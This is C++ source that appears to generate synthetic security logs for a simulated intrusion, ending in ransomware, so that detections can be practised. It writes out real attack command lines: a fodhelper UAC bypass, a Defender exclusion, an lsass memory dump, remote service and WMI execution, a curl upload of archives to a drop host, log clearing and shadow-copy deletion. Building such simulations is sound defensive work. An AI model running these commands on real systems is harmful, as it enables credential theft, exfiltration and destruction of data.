#include <fmt/format.h>

#include "ingest/demo/calendar.h"
#include "ingest/demo/campaign_host.h"
#include "ingest/demo/lossless.h"
#include "ingest/demo/network_logs.h"
#include "ingest/demo/office_words.h"
#include "ingest/demo/text.h"

namespace harrier::ingest::demo {

void HostCampaign::Evade(int64_t t) {
  const Process& implant = Implant(t);
  laptop_.sensor().Registry(
      t, implant,
      fmt::format(R"(HKEY_CURRENT_USER\{}_Classes\ms-settings\shell\open\command)", clerk_.account.sid),
      "(Default)", R"(powershell -w hidden -c "Add-MpPreference -ExclusionPath C:\ProgramData\Quill")");
  const Image& helper =
      laptop_.Keep(Programs::Custom("fodhelper.exe", R"(C:\Windows\System32)", "Microsoft Corporation",
                                    "Microsoft Windows Operating System", "FodHelper.EXE", "10.0.22621.1"));
  const Process& elevated =
      laptop_.Start(t + Seconds(3), implant, helper, R"("C:\Windows\System32\fodhelper.exe")", *implant.logon,
                    Integrity::kHigh);
  laptop_.Start(t + Seconds(3.4), elevated, "powershell",
                R"(powershell -w hidden -c "Add-MpPreference -ExclusionPath C:\ProgramData\Quill")");
  laptop_.sensor().Registry(t + Seconds(5), laptop_.Base(BaseProcess::kAntivirus),
                            R"(HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths)",
                            R"(C:\ProgramData\Quill)", "0");
  Tell("Elevation by fodhelper", "PrivilegeEscalation", "T1548.002", "DeviceRegistryEvents", t,
       {{"RegistryKey", "ms-settings\\shell\\open\\command"}},
       "The key decides what an auto-elevated program starts.");
  Tell("Defender told to look away", "DefenseEvasion", "T1562.001", "DeviceRegistryEvents", t + Seconds(5),
       {{"RegistryKey", "Windows Defender\\Exclusions\\Paths"},
        {"RegistryValueName", "C:\\ProgramData\\Quill"}},
       "No other exclusion is set in three weeks.");
}

void HostCampaign::DumpCredentials(int64_t t) {
  // The service desk had been called about the slow machine: its password is in memory now.
  const Logon& support =
      laptop_.LogOn(t - Minutes(12), helper_, 10, {"10.20.1.70", "KW-JUMP01"}, true, "Negotiate");
  laptop_.Start(t - Minutes(11), laptop_.Base(BaseProcess::kWinlogon), sim_.world.programs.Get("mmc"),
                R"("C:\Windows\system32\mmc.exe" eventvwr.msc)", support, Integrity::kHigh);
  const Process& implant = Implant(t);
  const uint32_t lsass = laptop_.Base(BaseProcess::kLsass).pid;
  const Process& dump = laptop_.Start(
      t, implant, sim_.world.programs.Get("rundll32"),
      fmt::format(
          R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {} C:\ProgramData\Quill\q.dat full)",
          lsass),
      *implant.logon, Integrity::kHigh);
  laptop_.sensor().Other(t + Seconds(0.6), dump, "OpenProcessApiCall", R"(C:\Windows\System32)", "lsass.exe",
                         R"({"DesiredAccess":2097151})");
  laptop_.sensor().File(t + Seconds(4), dump, "FileCreated", R"(C:\ProgramData\Quill)", "q.dat", 61'204'992);
  laptop_.Stop(t + Seconds(4.5), dump);
  Tell("Memory of lsass dumped", "CredentialAccess", "T1003.001", "DeviceProcessEvents", t,
       {{"ProcessCommandLine", "comsvcs.dll, MiniDump"}, {"DeviceName", Lower(laptop_.host().fqdn)}},
       "The number is the pid of lsass.");
  Tell("lsass opened with all rights", "CredentialAccess", "T1003.001", "DeviceEvents", t + Seconds(0.6),
       {{"ActionType", "OpenProcessApiCall"},
        {"AdditionalFields", "2097151"},
        {"InitiatingProcessFileName", "rundll32.exe"}},
       "Antivirus opens it daily, with few rights.");
}

void HostCampaign::Roast(int64_t t) {
  Implant(t);
  int64_t at = t;
  for (const auto& [name, account] : sim_.world.services) {
    sim_.Controller(0).security().ServiceTicket(at, clerk_.account, account, laptop_.ip(), "0x17");
    at += Seconds(0.5 + random_.Unit() * 3);
  }
  Tell("Tickets of all service accounts, in RC4", "CredentialAccess", "T1558.003", "SecurityEvent", t,
       {{"EventData", "<Data Name=\"TicketEncryptionType\">0x17"},
        {"TargetUserName", clerk_.account.name + "@"}},
       "4769 by one user for many services within seconds.");
}

void HostCampaign::MoveByService(int64_t t) {
  const Process& implant = Implant(t);
  laptop_.sensor().Network(t - Seconds(0.2), implant, laptop_.ip(), {files_.ip(), files_.host().fqdn, 445});
  sim_.Controller(0).security().NtlmValidated(t - Seconds(0.1), helper_, laptop_.host().name, "0x0");
  const Logon& logon = files_.LogOn(t, helper_, 3, {laptop_.ip(), laptop_.host().name}, true, "NTLM");
  files_.security().ShareAccess(t + Seconds(0.4), logon, "ADMIN$", "", true);
  const std::string service = "BTOBTO" + TextOf(random_, kUpperAlphanumeric, 4);
  const std::string command =
      R"(%COMSPEC% /Q /c echo copy \\KW-FS01\public$\qm.bin C:\Windows\Temp\qmsync.exe ^> \\127.0.0.1\C$\__output 2^>^&1 > C:\Windows\Temp\execute.bat & %COMSPEC% /Q /c C:\Windows\Temp\execute.bat)";
  files_.security().ServiceInstalled(t + Seconds(2), logon, service, command, "LocalSystem");
  const Process& shell = files_.StartService(t + Seconds(2.2), sim_.world.programs.Get("cmd"), command);
  files_.sensor().File(t + Seconds(3), shell, "FileCreated", R"(C:\Windows\Temp)", "execute.bat", 122);
  files_.sensor().File(t + Seconds(4), shell, "FileCreated", R"(C:\Windows\Temp)", "qmsync.exe", 412'672);
  Image there = implant_image_;
  there.folder = R"(C:\Windows\Temp)";
  const Image& copy = files_.Keep(there);
  files_.security().ServiceInstalled(t + Minutes(2), logon, "QuillSync", copy.Path() + " -svc",
                                     "LocalSystem");
  remote_ = &files_.StartService(t + Minutes(2.1), copy, copy.Path() + " -svc");
  files_.LogOff(t + Minutes(3), logon);
  Tell("Service of a shell on the file server", "LateralMovement", "T1021.002", "SecurityEvent",
       t + Seconds(2), {{"ServiceFileName", "%COMSPEC% /Q /c echo"}, {"Computer", files_.host().fqdn}},
       "4697 in the session of an NTLM logon from a clerk's laptop.");
  Tell("Network logon of the stolen account", "LateralMovement", "T1078.002", "SecurityEvent", t,
       {{"TargetUserName", helper_.name},
        {"AuthenticationPackageName", "NTLM"},
        {"WorkstationName", laptop_.host().name}},
       "This account comes from the jump server only, with Kerberos.");
  Tell("Service that stays", "Persistence", "T1543.003", "Event", t + Minutes(2),
       {{"EventData", "QuillSync"}, {"Source", "Service Control Manager"}}, "7045");
}

void HostCampaign::MoveByWmi(int64_t t) {
  Machine& database = sim_.ServerMachine("sql");
  const Process& implant = Implant(t);
  laptop_.sensor().Network(t - Seconds(0.3), implant, laptop_.ip(),
                           {database.ip(), database.host().fqdn, 135});
  const Logon& logon = database.LogOn(t, helper_, 3, {laptop_.ip(), laptop_.host().name}, true, "NTLM");
  const Process& provider =
      database.Start(t + Seconds(0.3), database.Base(BaseProcess::kDcomLaunch), "wmiprvse",
                     R"(C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding)");
  constexpr std::string_view kCommands[] = {"whoami", "dir D:\\Backup",
                                            "sqlcmd -E -Q \"SELECT name FROM sys.databases\""};
  for (size_t i = 0; i < std::size(kCommands); ++i) {
    database.Start(t + Seconds(1 + 20 * static_cast<double>(i)), provider, sim_.world.programs.Get("cmd"),
                   fmt::format(R"(cmd.exe /Q /c {} 1> \\127.0.0.1\ADMIN$\__{}.{} 2>&1)", kCommands[i],
                               t / kTicksPerSecond % 1'000'000'000, random_.Between(1000, 9999)),
                   logon, Integrity::kHigh);
  }
  database.LogOff(t + Minutes(4), logon);
  Tell("Commands through WMI on the database server", "LateralMovement", "T1047", "DeviceProcessEvents",
       t + Seconds(1),
       {{"InitiatingProcessFileName", "WmiPrvSE.exe"}, {"ProcessCommandLine", "\\\\127.0.0.1\\ADMIN$\\__"}},
       "The WMI host starts a shell that writes to a share of its own.");
}

void HostCampaign::Collect(int64_t t) {
  const Image& archiver = files_.Keep(
      Programs::Custom("msupd.exe", R"(C:\ProgramData\Quill)", "Igor Pavlov", "7-Zip", "7z.exe", "23.01"));
  const Process& parent = remote_ != nullptr ? *remote_ : files_.Base(BaseProcess::kServices);
  files_.sensor().File(t - Minutes(2), parent, "FileCreated", archiver.folder, archiver.file, archiver.size);
  const Process& job = files_.Start(
      t, parent, archiver,
      R"(msupd.exe a -mx1 -v200m -hpK7!vane C:\ProgramData\Quill\u1.7z D:\Shares\finance$ D:\Shares\managem$)");
  for (int part = 1; part <= 14; ++part) {
    files_.sensor().File(t + Minutes(0.8 * part), job, "FileCreated", R"(C:\ProgramData\Quill)",
                         fmt::format("u1.7z.{:03}", part), 209'715'200);
  }
  files_.Stop(t + Minutes(13), job);
  Tell("Shares packed by a renamed archiver", "Collection", "T1560.001", "DeviceProcessEvents", t,
       {{"FileName", "msupd.exe"},
        {"ProcessVersionInfoOriginalFileName", "7z.exe"},
        {"DeviceName", Lower(files_.host().fqdn)}},
       "The file's own resources still name the archiver.");
}

void HostCampaign::TunnelOut(int64_t t) {
  int64_t at = t;
  for (int i = 0; i < 3100; ++i) {
    const std::string name = fmt::format("{}.{}.{:04x}.{}", TextOf(random_, kLowerAlphanumeric, 56),
                                         TextOf(random_, kLowerAlphanumeric, 48), i, kTunnelDomain);
    WriteDns(sim_.logs, at, {sim_.Controller(0).host().fqdn, files_.ip(), name, "TXT", "", 0});
    at += Seconds(0.2 + random_.Unit() * 1.6);
  }
  Tell("Data in the names of DNS lookups", "Exfiltration", "T1048.003", "DnsEvents", t,
       {{"Name", "." + std::string(kTunnelDomain)}, {"ClientIP", files_.ip()}},
       "Thousands of long names under one domain in an hour, all different.");
}

void HostCampaign::Upload(int64_t t) {
  const Process& parent = remote_ != nullptr ? *remote_ : files_.Base(BaseProcess::kServices);
  const Image& curl =
      files_.Keep(Programs::Custom("curl.exe", R"(C:\Windows\System32)", "curl, https://curl.se/",
                                   "The curl executable", "curl.exe", "8.9.1"));
  for (int part = 1; part <= 14; ++part) {
    const int64_t at = t + Minutes(2.2 * part);
    const Process& job =
        files_.Start(at, parent, curl,
                     fmt::format(R"(curl.exe -s -k -T C:\ProgramData\Quill\u1.7z.{:03} https://{}/u/k4/)",
                                 part, kDropHost));
    Visit visit;
    visit.domain = kDropHost;
    visit.ip = kDropIp;
    visit.method = "PUT";
    visit.sent = 209'715'200 + random_.Between(3000, 9000);
    visit.received = random_.Between(900, 1500);
    Connect(sim_, files_, at + Seconds(1), job, visit);
    files_.sensor().File(at + Minutes(2), parent, "FileDeleted", R"(C:\ProgramData\Quill)",
                         fmt::format("u1.7z.{:03}", part), 209'715'200);
  }
  Tell("Archive uploaded at night", "Exfiltration", "T1567", "CommonSecurityLog", t + Minutes(2.2),
       {{"DestinationHostName", std::string(kDropHost)}, {"SourceIP", files_.ip()}},
       "The file server sends 2.9 GB to a stranger; the nightly backup sends more, to the company's own "
       "bucket.");
}

void HostCampaign::CoverTracks(int64_t t) {
  const Process& parent = remote_ != nullptr ? *remote_ : files_.Base(BaseProcess::kServices);
  files_.Start(t, parent, "wevtutil", "wevtutil cl Security");
  files_.security().LogCleared(t + Seconds(0.4), files_.system_logon());
  Tell("Security log cleared", "DefenseEvasion", "T1070.001", "SecurityEvent", t + Seconds(0.4),
       {{"EventID", "1102"}, {"Computer", files_.host().fqdn}}, "The only 1102 there is.");
}

void HostCampaign::Impact(int64_t t) {
  const Lossless all(sim_.logs);
  Image there = implant_image_;
  there.folder = R"(C:\Windows\Temp)";
  const Process& parent = files_.StartService(t, files_.Keep(there), there.Path() + " -svc");
  files_.Start(t + Seconds(8), parent, "vssadmin", "vssadmin.exe delete shadows /all /quiet");
  files_.Start(t + Seconds(11), parent, "wevtutil", "wevtutil cl Security");
  files_.security().LogCleared(t + Seconds(11.3), files_.system_logon());
  const Image& locker = files_.Keep(
      Programs::Custom("qmlock.exe", R"(C:\ProgramData\Quill)", "", "Quill Metrics", "qmlock.exe", "1.0.0"));
  const Process& job = files_.Start(t + Seconds(20), parent, locker, R"(qmlock.exe -p D:\Shares -n 8)");
  constexpr Department kShares[] = {Department::kFinance, Department::kManagement, Department::kEngineering};
  for (int i = 0; i < 420; ++i) {
    const Department department = random_.Pick(kShares);
    const std::string file = DocumentName(random_, department, sim_.world.projects);
    const std::string folder =
        fmt::format(R"(D:\Shares\{}$)", Lower(DepartmentName(department).substr(0, 7)));
    files_.sensor().File(t + Seconds(22 + i * 0.2), job, "FileRenamed", folder, file + ".quill",
                         random_.Between(9000, 3'000'000), {}, file);
  }
  files_.sensor().File(t + Seconds(110), job, "FileCreated", R"(D:\Shares\finance$)", "READ_ME_QUILL.txt",
                       1204);
  Tell("Shadow copies deleted", "Impact", "T1490", "DeviceProcessEvents", t,
       {{"ProcessCommandLine", "vssadmin.exe delete shadows"}}, "Minutes before the files go.", true);
  Tell("Files of the shares encrypted", "Impact", "T1486", "DeviceFileEvents", t,
       {{"FileName", ".quill"}, {"ActionType", "FileRenamed"}}, "One process renames hundreds.", true);
}

}  // namespace harrier::ingest::demo
